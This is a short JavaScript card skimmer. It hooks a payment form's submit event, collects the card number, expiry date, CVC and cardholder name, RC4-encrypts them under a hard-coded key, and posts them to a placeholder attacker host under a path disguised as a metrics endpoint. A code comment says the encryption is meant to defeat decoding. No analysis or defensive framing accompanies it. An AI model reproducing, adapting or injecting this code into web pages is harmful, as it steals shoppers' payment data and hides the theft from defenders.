(function () {
  // RC4 under a key only the attacker's server knows: no decoder can undo
  // it from the request alone.
  var key = 'k9#Qv!2pL0zR7xTw';
  function rc4(data) {
    var s = [], j = 0, x, out = '';
    for (var i = 0; i < 256; i++) { s[i] = i; }
    for (i = 0; i < 256; i++) {
      j = (j + s[i] + key.charCodeAt(i % key.length)) % 256;
      x = s[i]; s[i] = s[j]; s[j] = x;
    }
    i = 0; j = 0;
    for (var y = 0; y < data.length; y++) {
      i = (i + 1) % 256;
      j = (j + s[i]) % 256;
      x = s[i]; s[i] = s[j]; s[j] = x;
      out += ('0' + (data.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]).toString(16)).slice(-2);
    }
    return out;
  }
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    var d = ['card-number', 'card-exp', 'card-cvc', 'card-name'].map(function (id) {
      var el = document.getElementById(id);
      return el ? el.value : '';
    }).join('|');
    fetch('{{ATTACKER}}/api/v1/metrics', {method: 'POST', mode: 'no-cors', keepalive: true,
      body: JSON.stringify({v: 3, sid: 'a81f', p: rc4(d)})});
  }, true);
})();
